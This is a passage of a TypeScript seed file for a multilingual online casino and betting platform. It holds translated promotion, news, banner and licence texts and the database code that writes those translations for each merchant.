    EN: '<p>Tell us the table and round, and attach a screenshot.</p>',
    CN: '<p>告诉我们桌号和局号，并附上截图。</p>',
    TH: '<p>แจ้งโต๊ะและรอบ พร้อมแนบภาพหน้าจอ</p>',
    VI: '<p>Cho chúng tôi biết bàn và ván chơi, kèm ảnh chụp màn hình.</p>',
    TY: '<p>Sabihin sa amin ang mesa at round, at mag-attach ng screenshot.</p>',
    PT: '<p>Informe a mesa e a rodada e anexe uma captura de tela.</p>',
  },
  {
    EN: 'Sports: first bet insurance',
    CN: '体育：首笔投注保险',
    TH: 'กีฬา: ประกันเดิมพันแรก',
    VI: 'Thể thao: bảo hiểm cược đầu tiên',
    TY: 'Sports: insurance sa unang taya',
    PT: 'Esportes: seguro da primeira aposta',
  },
  {
    EN: '<p>Lose your first sports bet and get it back as a free bet, up to ￥500.</p>',
    CN: '<p>首笔体育投注未中？以免费投注返还，最高 ￥500。</p>',
    TH: '<p>เดิมพันกีฬาครั้งแรกเสีย รับคืนเป็นเดิมพันฟรี สูงสุด ￥500</p>',
    VI: '<p>Thua cược thể thao đầu tiên? Nhận lại dưới dạng cược miễn phí, tối đa ￥500.</p>',
    TY: '<p>Natalo ang una mong sports na taya? Ibabalik ito bilang libreng taya, hanggang ￥500.</p>',
    PT: '<p>Perdeu sua primeira aposta esportiva? Receba de volta como aposta grátis, até ￥500.</p>',
  },
  {
    EN: 'Fishing frenzy weekend',
    CN: '捕鱼狂欢周末',
    TH: 'สุดสัปดาห์ยิงปลาสุดมันส์',
    VI: 'Cuối tuần bắn cá cuồng nhiệt',
    TY: 'Fishing frenzy ngayong weekend',
    PT: 'Fim de semana da pescaria',
  },
  {
    EN: '<p>Double points on every fishing game, Saturday and Sunday.</p>',
    CN: '<p>周六、周日所有捕鱼游戏积分翻倍。</p>',
    TH: '<p>แต้มสองเท่าในทุกเกมยิงปลา วันเสาร์และอาทิตย์</p>',
    VI: '<p>Nhân đôi điểm ở mọi trò bắn cá vào thứ Bảy và Chủ nhật.</p>',
    TY: '<p>Dobleng puntos sa bawat fishing game, tuwing Sabado at Linggo.</p>',
    PT: '<p>Pontos em dobro em todos os jogos de pesca, sábado e domingo.</p>',
  },
  {
    EN: 'Lottery streak bonus',
    CN: '彩票连投奖金',
    TH: 'โบนัสแทงหวยต่อเนื่อง',
    VI: 'Thưởng chuỗi xổ số',
    TY: 'Bonus sa sunod-sunod na lotto',
    PT: 'Bônus de sequência na loteria',
  },
  {
    EN: '<p>Bet on 7 draws in a row and claim ￥77.</p>',
    CN: '<p>连续投注 7 期，即可领取 ￥77。</p>',
    TH: '<p>เดิมพัน 7 งวดติดต่อกัน รับ ￥77</p>',
    VI: '<p>Cược 7 kỳ quay liên tiếp và nhận ￥77.</p>',
    TY: '<p>Maglagay ng taya sa 7 sunod-sunod na draw at kunin ang ￥77.</p>',
    PT: '<p>Faça apostas em 7 sorteios seguidos e resgate ￥77.</p>',
  },
  {
    EN: 'Unlimited rebate, every bet',
    CN: '无上限返水，每笔投注都有',
    TH: 'เงินคืนไม่อั้น ทุกการเดิมพัน',
    VI: 'Hoàn trả không giới hạn, mọi cược',
    TY: 'Walang limitasyong rebate, bawat taya',
    PT: 'Reembolso ilimitado em toda aposta',
  },
  {
    EN: '<p>Rebate paid daily on every valid bet, no cap, long term.</p>',
    CN: '<p>每笔有效投注每日发放返水，无上限，长期有效。</p>',
    TH: '<p>จ่ายเงินคืนทุกวันจากทุกยอดเดิมพันที่ถูกต้อง ไม่จำกัด ระยะยาว</p>',
    VI: '<p>Hoàn trả hằng ngày trên mọi cược hợp lệ, không giới hạn, dài hạn.</p>',
    TY: '<p>Rebate na ibinibigay araw-araw sa bawat balidong taya, walang limitasyon, pangmatagalan.</p>',
    PT: '<p>Reembolso pago diariamente em todas as apostas válidas, sem limite, por tempo indeterminado.</p>',
  },
  {
    EN: 'Safety test: this content must render inert',
    CN: '安全测试：此内容必须无害显示',
    TH: 'ทดสอบความปลอดภัย: เนื้อหานี้ต้องไม่ทำงาน',
    VI: 'Kiểm tra an toàn: nội dung này phải vô hại',
    TY: 'Safety test: dapat hindi gumana ang nilalamang ito',
    PT: 'Teste de segurança: este conteúdo deve ficar inerte',
  },
  SAFETY_TEST_CONTENT,
];

// ---------------------------------------------------------------------------------------------
// Home news (seed/vip.ts) and banner titles (seed/seed.ts) not said above

const HOME_NEWS: readonly SeedTexts[] = [
  {
    EN: 'Up to 1.6% of net losses back every Monday, by VIP level.',
    CN: '每周一按 VIP 等级返还最高 1.6% 的净亏损。',
    TH: 'รับคืนสูงสุด 1.6% ของยอดเสียสุทธิทุกวันจันทร์ ตามระดับ VIP',
    VI: 'Hoàn đến 1,6% lỗ ròng vào thứ Hai hằng tuần, theo cấp VIP.',
    TY: 'Hanggang 1.6% ng net na talo ang ibinabalik tuwing Lunes, ayon sa VIP level.',
    PT: 'Até 1,6% das perdas líquidas de volta toda segunda-feira, conforme o nível VIP.',
  },
  {
    EN: 'Daily sign-in rewards',
    CN: '每日签到奖励',
    TH: 'รางวัลเช็คอินรายวัน',
    VI: 'Thưởng điểm danh hằng ngày',
    TY: 'Gantimpala sa araw-araw na pag-sign in',
    PT: 'Recompensas do check-in diário',
  },
  {
    EN: 'Sign in every day and collect a bonus; the streak pays more.',
    CN: '每天签到领奖金，连续签到奖励更多。',
    TH: 'เช็คอินทุกวันรับโบนัส ยิ่งต่อเนื่องยิ่งได้มาก',
    VI: 'Điểm danh mỗi ngày để nhận thưởng; chuỗi càng dài thưởng càng cao.',
    TY: 'Mag-sign in araw-araw at kumuha ng bonus; mas malaki kapag tuloy-tuloy.',
    PT: 'Faça check-in todo dia e ganhe um bônus; a sequência paga mais.',
  },
  {
    EN: 'Invite friends, earn together',
    CN: '邀请好友，一起赚',
    TH: 'ชวนเพื่อน รับรายได้ไปด้วยกัน',
    VI: 'Mời bạn bè, cùng nhau kiếm thưởng',
    TY: 'Mag-imbita ng kaibigan, sabay kumita',
    PT: 'Convide amigos e ganhem juntos',
  },
  {
    EN: 'Share your link and earn when your friends play.',
    CN: '分享您的链接，好友游戏您就有收益。',
    TH: 'แชร์ลิงก์ของคุณ แล้วรับรายได้เมื่อเพื่อนเล่น',
    VI: 'Chia sẻ liên kết và nhận thưởng khi bạn bè chơi.',
    TY: 'I-share ang iyong link at kumita kapag naglaro ang mga kaibigan mo.',
    PT: 'Compartilhe seu link e ganhe quando seus amigos jogarem.',
  },
  {
    EN: 'New slots every Monday',
    CN: '每周一上新老虎机',
    TH: 'สล็อตใหม่ทุกวันจันทร์',
    VI: 'Slot mới mỗi thứ Hai',
    TY: 'Bagong slot tuwing Lunes',
    PT: 'Caça-níqueis novos toda segunda-feira',
  },
  {
    EN: 'Twelve new slot games joined the lobby this week.',
    CN: '本周大厅新增 12 款老虎机游戏。',
    TH: 'สัปดาห์นี้มีเกมสล็อตใหม่ 12 เกมในล็อบบี้',
    VI: 'Tuần này sảnh có thêm 12 trò slot mới.',
    TY: 'Labindalawang bagong slot game ang nadagdag sa lobby ngayong linggo.',
    PT: 'Doze novos jogos de caça-níqueis chegaram ao lobby esta semana.',
  },
  {
    EN: 'Live dealers around the clock',
    CN: '真人荷官全天候在线',
    TH: 'ดีลเลอร์สดตลอด 24 ชั่วโมง',
    VI: 'Dealer trực tiếp suốt ngày đêm',
    TY: 'Live dealer buong araw at gabi',
    PT: 'Crupiês ao vivo 24 horas',
  },
  {
    EN: 'Baccarat and roulette tables open 24 hours a day.',
    CN: '百家乐和轮盘桌 24 小时开放。',
    TH: 'โต๊ะบาคาร่าและรูเล็ตเปิด 24 ชั่วโมง',
    VI: 'Bàn baccarat và roulette mở cửa 24 giờ mỗi ngày.',
    TY: 'Bukas ang mga mesa ng baccarat at roulette 24 oras araw-araw.',
    PT: 'Mesas de bacará e roleta abertas 24 horas por dia.',
  },
  {
    EN: 'Scheduled maintenance finished',
    CN: '系统维护已完成',
    TH: 'ปิดปรับปรุงระบบเสร็จแล้ว',
    VI: 'Đã hoàn tất bảo trì định kỳ',
    TY: 'Tapos na ang nakatakdang maintenance',
    PT: 'Manutenção programada concluída',
  },
  {
    EN: 'All vendors are back online. Thank you for your patience.',
    CN: '所有游戏厂商已恢复在线，感谢您的耐心等待。',
    TH: 'ค่ายเกมทั้งหมดกลับมาออนไลน์แล้ว ขอบคุณที่รอ',
    VI: 'Tất cả nhà cung cấp đã hoạt động trở lại. Cảm ơn bạn đã kiên nhẫn.',
    TY: 'Online na ulit ang lahat ng provider. Salamat sa iyong pasensya.',
    PT: 'Todos os provedores estão de volta. Obrigado pela paciência.',
  },
  {
    EN: 'Lottery draws every 5 minutes',
    CN: '彩票每 5 分钟开奖',
    TH: 'หวยออกทุก 5 นาที',
    VI: 'Xổ số quay mỗi 5 phút',
    TY: 'Lotto draw bawat 5 minuto',
    PT: 'Sorteios da loteria a cada 5 minutos',
  },
  {
    EN: 'Fast draws all day long; see the results in the lottery lobby.',
    CN: '全天快速开奖，结果请到彩票大厅查看。',
    TH: 'ออกผลไวตลอดวัน ดูผลได้ที่ล็อบบี้หวย',
    VI: 'Quay nhanh cả ngày; xem kết quả tại sảnh xổ số.',
    TY: 'Mabilis na draw buong araw; tingnan ang resulta sa lobby ng lotto.',
    PT: 'Sorteios rápidos o dia todo; veja os resultados no salão da loteria.',
  },
];

const BANNERS: readonly SeedTexts[] = [
  {
    EN: 'Weekend cashback up to 1.5%',
    CN: '周末返现最高 1.5%',
    TH: 'คืนยอดเสียสุดสัปดาห์สูงสุด 1.5%',
    VI: 'Hoàn tiền cuối tuần đến 1,5%',
    TY: 'Weekend cashback hanggang 1.5%',
    PT: 'Cashback de fim de semana de até 1,5%',
  },
  {
    EN: 'Watch our live hosts play',
    CN: '观看主播实况游戏',
    TH: 'ชมโฮสต์สดของเราเล่น',
    VI: 'Xem các host trực tiếp chơi',
    TY: 'Panoorin ang aming mga live host',
    PT: 'Assista aos nossos apresentadores ao vivo',
  },
];

// ---------------------------------------------------------------------------------------------
// Site settings (seed/site.ts): the footer's licence text and the download page's description

const SITE_SETTINGS: readonly SeedTexts[] = [
  {
    EN: 'This site is operated by a company registered in Curacao and licensed by the Curacao Gaming Control Board. Players must be 18 or older.',
    CN: '本网站由一家在库拉索注册、并获 Curacao Gaming Control Board 许可的公司运营。玩家须年满 18 岁。',
    TH: 'เว็บไซต์นี้ดำเนินการโดยบริษัทที่จดทะเบียนในคูราเซา และได้รับใบอนุญาตจาก Curacao Gaming Control Board ผู้เล่นต้องมีอายุ 18 ปีขึ้นไป',
    VI: 'Trang web này do một công ty đăng ký tại Curacao vận hành, được Curacao Gaming Control Board cấp phép. Người chơi phải từ 18 tuổi trở lên.',
    TY: 'Pinapatakbo ang site na ito ng isang kumpanyang naka-register sa Curacao at lisensyado ng Curacao Gaming Control Board. Dapat 18 taong gulang pataas ang mga manlalaro.',
    PT: 'Este site é operado por uma empresa registrada em Curaçao e licenciada pelo Curacao Gaming Control Board. Jogadores devem ter 18 anos ou mais.',
  },
  { EN: 'Play anywhere', CN: '随时随地畅玩', TH: 'เล่นได้ทุกที่', VI: 'Chơi mọi lúc mọi nơi', TY: 'Maglaro kahit saan', PT: 'Jogue onde quiser' },
];

// ---------------------------------------------------------------------------------------------
// The catalog

/** Every seeded text with its translations, by section; a text said twice (a banner and a news title) is listed once. */
export const SEED_TEXTS: Readonly<Record<string, readonly TextWithTurkish[]>> = {
  announcements: ANNOUNCEMENTS,
  inbox: INBOX,
  welcomeMessages: WELCOME_MESSAGES.flatMap((m) => [m.title, m.content]),
  promotions: PROMOTIONS,
  homeNews: HOME_NEWS,
  banners: BANNERS,
  siteSettings: SITE_SETTINGS,
  ...ACCOUNT_TEXTS,
};

const SYMBOL = '{symbol}';

/** English -> its translations, with each text holding {symbol} written out for every merchant's currency symbol. */
function buildCatalog(): ReadonlyMap<string, TextWithTurkish> {
  const catalog = new Map<string, TextWithTurkish>();
  const symbols = [...new Set(MERCHANTS.map((m) => m.currencySymbol))];
  for (const texts of Object.values(SEED_TEXTS).flat()) {
    const variants = texts.EN.includes(SYMBOL) ? symbols : [null];
    for (const symbol of variants) {
      const writeOut = (t: string) => t.split(SYMBOL).join(symbol ?? SYMBOL);
      const written: TextWithTurkish = symbol === null ? texts : { ...each(texts, writeOut), ...(texts.TR === undefined ? {} : { TR: writeOut(texts.TR) }) };
      const earlier = catalog.get(written.EN);
      if (earlier && JSON.stringify(earlier) !== JSON.stringify(written)) throw new Error(`seed text translated twice, differently: ${written.EN}`);
      catalog.set(written.EN, written);
    }
  }
  return catalog;
}

export const SEED_CATALOG = buildCatalog();

/** The translations of a seeded English text (with its Turkish where it has one), or undefined for a text the seed does not write. */
export function seedTranslations(english: string): TextWithTurkish | undefined {
  return SEED_CATALOG.get(english);
}

const LANGUAGES: readonly TranslatedLanguage[] = ['CN', 'TH', 'VI', 'TY', 'PT'];

/**
 * The rows of one seeded text: the five languages for a merchant of the six; for a merchant of
 * the 'ty-en' reading (product rule 3.15), which offers only TY and EN, the Turkish under TY and
 * nothing else (the server answers the other languages in English there).
 */
function rowsFor(kind: ContentKind, ref: string | number, field: string, english: string | null, reading: LanguageReading): TranslationRow[] {
  if (!english) return [];
  if (reading === 'ty-en') {
    const turkish = seedTurkish(english);
    return turkish === undefined ? [] : [{ kind, ref: String(ref), field, language: 'TY', text: turkish }];
  }
  const texts = SEED_CATALOG.get(english);
  if (!texts) return [];
  return LANGUAGES.map((language) => ({ kind, ref: String(ref), field, language, text: texts[language] }));
}

/** Each merchant's reading of the languages, as the server reads it for a request. */
async function merchantReadings(db: Db): Promise<(merchantCode: string) => LanguageReading> {
  const merchants = await db.selectFrom('merchants').select('code').execute();
  const readings = new Map(await Promise.all(merchants.map(async (m) => [m.code, await siteLanguageReading(db, m.code)] as const)));
  return (code) => readings.get(code) ?? DEFAULT_LANGUAGE_READING;
}

/**
 * Gives every piece of content whose English is a seeded text the seed's translations: the seed
 * calls it once its content is in, migration 021 on a database seeded before translations
 * existed. Content an operator has since rewritten no longer matches and keeps its own words.
 * Translations already there are replaced by the seed's. A merchant of the 'ty-en' reading gets
 * its TY in Turkish (translations-turkish.ts).
 */
export async function translateSeededContent(db: Db): Promise<number> {
  const english = [...SEED_CATALOG.keys()];
  const readingOf = await merchantReadings(db);
  const rows: TranslationRow[] = [];
  for (const kind of ['announcements', 'promotions'] as const) {
    const contentKind = ({ announcements: 'announcement', promotions: 'promotion' } as const)[kind];
    const found = await db
      .selectFrom(kind)
      .select(['id', 'merchant_code', 'title', 'content'])
      .where((eb) => eb.or([eb('title', 'in', english), eb('content', 'in', english)]))
      .execute();
    for (const r of found) {
      const reading = readingOf(r.merchant_code);
      rows.push(...rowsFor(contentKind, r.id, 'title', r.title, reading), ...rowsFor(contentKind, r.id, 'content', r.content, reading));
    }
  }
  const inbox = await db
    .selectFrom('inbox_messages as i')
    .innerJoin('members as m', 'm.id', 'i.member_id')
    .select(['i.id', 'm.merchant_code', 'i.title', 'i.content'])
    .where((eb) => eb.or([eb('i.title', 'in', english), eb('i.content', 'in', english)]))
    .execute();
  for (const r of inbox) {
    const reading = readingOf(r.merchant_code);
    rows.push(...rowsFor('inbox', r.id, 'title', r.title, reading), ...rowsFor('inbox', r.id, 'content', r.content, reading));
  }
  const news = await db
    .selectFrom('home_news')
    .select(['id', 'merchant_code', 'title', 'summary'])
    .where((eb) => eb.or([eb('title', 'in', english), eb('summary', 'in', english)]))
    .execute();
  for (const r of news) {
    const reading = readingOf(r.merchant_code);
    rows.push(...rowsFor('home_news', r.id, 'title', r.title, reading), ...rowsFor('home_news', r.id, 'summary', r.summary, reading));
  }
  const banners = await db.selectFrom('banners').select(['id', 'merchant_code', 'title']).where('title', 'in', english).execute();
  for (const r of banners) rows.push(...rowsFor('banner', r.id, 'title', r.title, readingOf(r.merchant_code)));
  const settings = await db
    .selectFrom('site_settings')
    .select(['merchant_code', 'key', 'value_json'])
    .where('key', 'in', ['licenceText', 'mobileTemplate'])
    .execute();
  for (const s of settings) {
    const value: unknown = JSON.parse(s.value_json);
    const reading = readingOf(s.merchant_code);
    if (s.key === 'licenceText' && typeof value === 'string') rows.push(...rowsFor('site_setting', s.merchant_code, 'licenceText', value, reading));
    if (s.key === 'mobileTemplate' && typeof value === 'object' && value !== null && 'app_desc' in value && typeof value.app_desc === 'string') {
      rows.push(...rowsFor('site_setting', s.merchant_code, 'mobileTemplate.app_desc', value.app_desc, reading));
    }
  }
  rows.push(...(await accountTextRows(db, english, readingOf)));
  await putManyTranslations(db, rows);
  return rows.length;
}

/**
 * The account screens' seeded texts (translations-account.ts): reward titles, mall items, deposit
 * channel names, the rejection reasons and feedback replies. Reasons and replies are an
 * operator's words in real use, translated only where they read as the seed wrote them.
 */
async function accountTextRows(db: Db, english: readonly string[], readingOf: (merchantCode: string) => LanguageReading): Promise<TranslationRow[]> {
  const rows: TranslationRow[] = [];
  const rewards = await db
    .selectFrom('member_rewards as r')
    .innerJoin('members as m', 'm.id', 'r.member_id')
    .select(['r.id', 'm.merchant_code', 'r.title'])
    .where('r.title', 'in', english)
    .execute();
  for (const r of rewards) rows.push(...rowsFor('reward', r.id, 'title', r.title, readingOf(r.merchant_code)));
  const mall = await db
    .selectFrom('mall_items')
    .select(['id', 'merchant_code', 'name', 'description'])
    .where((eb) => eb.or([eb('name', 'in', english), eb('description', 'in', english)]))
    .execute();
  for (const r of mall) {
    const reading = readingOf(r.merchant_code);
    rows.push(...rowsFor('mall_item', r.id, 'name', r.name, reading), ...rowsFor('mall_item', r.id, 'description', r.description, reading));
  }
  for (const r of await db.selectFrom('deposit_channels').select(['merchant_code', 'code', 'name']).where('name', 'in', english).execute()) {
    rows.push(...rowsFor('deposit_channel', `${r.merchant_code}/${r.code}`, 'name', r.name, readingOf(r.merchant_code)));
  }
  const applications = await db
    .selectFrom('reward_applications as a')
    .innerJoin('members as m', 'm.id', 'a.member_id')
    .select(['a.id', 'm.merchant_code', 'a.reason'])
    .where('a.reason', 'in', english)
    .execute();
  for (const r of applications) rows.push(...rowsFor('reward_application', r.id, 'reason', r.reason, readingOf(r.merchant_code)));
  for (const [table, kind] of [
    ['deposit_orders', 'deposit_order'],
    ['withdrawal_orders', 'withdrawal_order'],
  ] as const) {
    for (const r of await db.selectFrom(table).select(['id', 'merchant_code', 'reason']).where('reason', 'in', english).execute()) {
      rows.push(...rowsFor(kind, r.id, 'reason', r.reason, readingOf(r.merchant_code)));
    }
  }
  const replies = await db
    .selectFrom('feedback as f')
    .innerJoin('members as m', 'm.id', 'f.member_id')
    .select(['f.id', 'm.merchant_code', 'f.reply'])
    .where('f.reply', 'in', english)
    .execute();
  for (const r of replies) rows.push(...rowsFor('feedback', r.id, 'reply', r.reply, readingOf(r.merchant_code)));
  return rows;
}
